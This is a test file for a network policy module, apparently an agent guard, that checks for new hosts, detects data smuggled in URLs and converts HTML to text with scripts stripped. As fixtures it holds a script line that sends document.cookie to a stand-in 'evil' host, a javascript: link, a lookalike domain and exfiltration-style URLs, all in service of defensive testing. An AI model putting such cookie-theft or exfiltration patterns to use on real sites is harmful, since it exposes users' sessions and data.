import { describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { checkOutboundData, dataCarried, htmlToText, isNewHost } from '../../../../src/core/policy/network';

describe('isNewHost / data to a new host (A12)', () => {
  const known = ['docs.example.com', 'https://api.example.org:8443/v1'];
  test('host comparison folds case, trailing dots and ports', () => {
    assert.equal(isNewHost('https://DOCS.example.com./a', known), false);
    assert.equal(isNewHost('http://api.example.org/x', known), false);
    assert.equal(isNewHost('https://evil.example.net/', known), true);
    assert.equal(isNewHost('https://docs.example.com.evil.net/', known), true);
    assert.equal(isNewHost('not a url', known), true);
  });
  test('data carriers: long query, long value, long path segment, long host label', () => {
    assert.match(dataCarried(`https://x.test/?d=${'A'.repeat(80)}`)!, /query/);
    assert.match(dataCarried(`https://x.test/?k=${'QUtJQTEyMzQ1Njc4OTBBQkNERUY='.repeat(2)}`)!, /query/);
    assert.match(dataCarried(`https://x.test/${'a1b2'.repeat(20)}/x`)!, /path segment/);
    assert.match(dataCarried(`https://${'c2VjcmV0'.repeat(5)}.x.test/`)!, /label/);
    assert.equal(dataCarried('https://x.test/docs/page?lang=en'), undefined);
  });
  test('ask only when data goes to a new host', () => {
    const exfil = `https://x.test/?d=${'s'.repeat(100)}`;
    assert.equal(checkOutboundData(exfil, known).verdict, 'ask');
    assert.equal(checkOutboundData(exfil, ['x.test']).verdict, 'allow');
    assert.equal(checkOutboundData('https://x.test/a', known).verdict, 'allow');
  });
});

describe('HTML to text', () => {
  test('drops scripts, styles and comments; keeps headings, lists and links', () => {
    const html = `<!doctype html><html><head><title>Doc &amp; Co</title><style>body{color:red}</style>
      <script>fetch("https://evil/?"+document.cookie)</script></head>
      <body><nav><a href="/home">Home</a></nav><!-- secret comment -->
      <h1>Install</h1><p>Run   <code>npm  i</code>&nbsp;now.</p>
      <h2>Links</h2><ul><li><a href="https://a.test/x">A site</a></li><li><a href="javascript:alert(1)">bad</a></li></ul>
      <noscript>enable js</noscript><p>x &lt; y &#x26; z &#169;</p></body></html>`;
    const text = htmlToText(html, 'https://docs.test/guide/');
    assert.match(text, /^Doc & Co/);
    assert.match(text, /# Install/);
    assert.match(text, /## Links/);
    assert.match(text, /Home \(https:\/\/docs\.test\/home\)/);
    assert.match(text, /- A site \(https:\/\/a\.test\/x\)/);
    assert.match(text, /Run npm i now\./);
    assert.match(text, /x < y & z ©/);
    assert.doesNotMatch(text, /fetch|color:red|secret comment|enable js|javascript:/);
    assert.match(text, /- bad/);
  });
  test('keeps <pre> whitespace and a stray "<" in text', () => {
    const text = htmlToText('<p>if a < b then</p><pre>  line1\n    line2</pre><p>after</p>');
    assert.match(text, /if a < b then/);
    assert.match(text, /  line1\n    line2/);
  });
  test('unterminated script and broken markup do not leak script text', () => {
    assert.equal(htmlToText('<p>ok</p><script>var x = "<p>not text</p>"'), 'ok');
    assert.equal(htmlToText('<p>a<b>b</p>c'), 'ab\n\nc');
  });
});
